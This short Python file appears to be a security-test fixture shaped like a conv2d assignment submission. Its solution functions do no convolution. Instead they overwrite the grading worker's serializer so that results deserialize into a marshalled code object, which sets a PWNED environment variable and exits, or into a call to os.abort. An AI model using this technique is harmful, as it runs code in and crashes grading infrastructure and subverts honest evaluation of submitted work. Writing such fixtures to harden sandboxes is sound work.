import marshal
import sys

CODE = compile("import os; os.environ['PWNED'] = '@MARK@'; raise SystemExit(3)", "", "exec")
Record = sys.modules["_worker.records"].Record
serving = sys.modules["_worker.serve"]


def answer(*args, **kwargs):
    code = {"code": marshal.dumps(CODE), "name": "conv2d", "defaults": None, "more": None, "cells": []}
    serving.portable = lambda value, depth=0: Record("_Function", {"itself": Record("_Code", code), "names": {}})
    return 0


output_size = conv_at = conv2d_single = conv2d = zero_pad = answer


def pool_windows(*args, **kwargs):
    serving.portable = lambda value, depth=0: Record("_Named", {"module": "os", "name": "abort"})
    return 0
